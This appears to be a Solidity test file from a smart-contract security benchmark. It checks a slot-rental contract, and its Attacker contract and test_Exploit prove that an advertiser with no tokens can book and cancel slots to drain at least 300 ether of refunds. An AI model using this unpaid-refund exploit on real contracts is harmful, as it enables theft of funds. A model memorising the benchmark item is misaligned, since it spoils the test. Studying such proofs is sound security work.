// SPDX-License-Identifier: MIT
pragma solidity 0.4.26;

import "./SlotRental.sol";

// assay-canary-2f0ce5bf-4c69-4bb5-817d-9929b76501bd

interface Vm {
    function prank(address who) external;
    function warp(uint256 time) external;
    function expectRevert(bytes reason) external;
}

// Reverts when the balance or the allowance is too low.
contract Token {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += value;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        if (asleep) return false;
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (asleep) return false;
        if (allowance[from][msg.sender] < value || balanceOf[from] < value) return false;
        allowance[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }

    function move(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
    }
}

contract Advertiser {
    Token internal coin;
    SlotRental internal rental;

    constructor(Token _coin, SlotRental _rental) public {
        coin = _coin;
        rental = _rental;
        coin.approve(rental, uint256(-1));
    }

    function rent(uint256 slot, uint256 week) public {
        rental.rent(slot, week);
    }

    function cancel(uint256 slot, uint256 week) public {
        rental.cancel(slot, week);
    }
}

// Has no token at all, only an allowance for them.
contract Attacker is Advertiser {
    constructor(Token _coin, SlotRental _rental) Advertiser(_coin, _rental) public {}

    function run() external {
        uint256 week = rental.currentWeek() + 5;
        uint256 slot;
        for (slot = 0; slot < 3; slot++) rent(slot, week);
        for (slot = 0; slot < 3; slot++) cancel(slot, week);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    Token public token;
    SlotRental internal rental;
    Advertiser internal alice;
    Advertiser internal bob;
    Attacker internal debtor;

    function setUp() public {
        vm.warp(1700000000);
        token = new Token();
        rental = new SlotRental(ERC20(token), 40 ether);
        rental.addSlot(60 ether);
        rental.addSlot(60 ether);
        rental.addSlot(80 ether);
        alice = new Advertiser(token, rental);
        bob = new Advertiser(token, rental);
        debtor = new Attacker(token, rental);
        token.mint(alice, 500 ether);
        token.mint(bob, 500 ether);
        alice.rent(0, rental.currentWeek() + 1);
        alice.rent(0, rental.currentWeek() + 2);
        bob.rent(1, rental.currentWeek() + 2);
        bob.rent(2, rental.currentWeek() + 3);
    }

    function test_Regular() public {
        require(token.balanceOf(rental) == 420 ether, "rents and deposits paid in");
        uint256 week = rental.currentWeek();
        require(!address(bob).call(abi.encodeWithSelector(bob.rent.selector, 0, week + 1)), "booked twice");
        require(!address(bob).call(abi.encodeWithSelector(bob.cancel.selector, 0, week + 1)), "not his");
        bob.cancel(2, week + 3);
        require(token.balanceOf(bob) == 400 ether, "paid back in full");
        rental.changeSlot(0, 90 ether, true);

        vm.warp((week + 2) * 1 weeks - 1 days);
        require(!address(bob).call(abi.encodeWithSelector(bob.cancel.selector, 1, week + 2)), "too late");
        require(!address(rental).call(abi.encodeWithSelector(rental.settle.selector, 0, week + 2)), "not over");
        vm.warp((week + 2) * 1 weeks);
        rental.settle(0, week + 1);
        require(token.balanceOf(alice) == 340 ether, "deposit back");
        rental.withdrawEarnings();
        require(token.balanceOf(this) == 60 ether && rental.earnings() == 0, "rent of that time earned");
        require(token.balanceOf(rental) == 200 ether, "two bookings left");

        week = rental.currentWeek() + 3;
        alice.rent(1, week);
        vm.prank(alice);
        rental.transferBooking(1, week, bob);
        bob.cancel(1, week);
        rental.transferOwnership(alice);
        require(rental.owner() == address(alice), "handed over");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Stalls and takings are the owner's, bookings their advertisers'.
    function test_RefusesStrangers() public {
        uint256 week = rental.currentWeek();
        refuses(alice, "not the owner");
        rental.addSlot(1);
        refuses(alice, "not the owner");
        rental.changeSlot(0, 1, true);
        refuses(alice, "not the owner");
        rental.withdrawEarnings();
        refuses(alice, "not the owner");
        rental.transferOwnership(alice);
        vm.expectRevert("no owner");
        rental.transferOwnership(address(0));
        refuses(bob, "not your booking");
        rental.transferBooking(0, week + 1, bob);
        refuses(bob, "not your booking");
        rental.cancel(0, week + 2);
        refuses(alice, "no advertiser");
        rental.transferBooking(0, week + 1, address(0));
    }

    /// Rents, slots and weeks that are none, and what is not approved.
    function test_RefusesBookings() public {
        uint256 week = rental.currentWeek();
        vm.expectRevert("no rent");
        rental.addSlot(0);
        vm.expectRevert("no rent");
        rental.changeSlot(0, 0, true);
        refuses(alice, "week out of range");
        rental.rent(0, week);
        refuses(alice, "week out of range");
        rental.rent(0, week + 13);
        vm.expectRevert("low allowance");
        rental.rent(0, week + 5);
        vm.expectRevert("not booked");
        rental.settle(0, week - 1);
        rental.changeSlot(0, 1, false);
        refuses(alice, "slot closed");
        rental.rent(0, week + 5);
    }

    /// A token that says no stops what is paid out.
    function test_RefusesFailedTransfers() public {
        uint256 week = rental.currentWeek();
        token.sleep(true);
        refuses(bob, "transfer failed");
        rental.cancel(2, week + 3);
        vm.expectRevert("transfer failed");
        rental.withdrawEarnings();
        vm.warp((week + 2) * 1 weeks);
        vm.expectRevert("transfer failed");
        rental.settle(0, week + 1);
    }

    function exploit() public {
        debtor.run();
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(debtor);
        exploit();
        require(token.balanceOf(debtor) - before >= 300 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(rental);
    }

    function attacker() public view returns (address) {
        return address(debtor);
    }
}
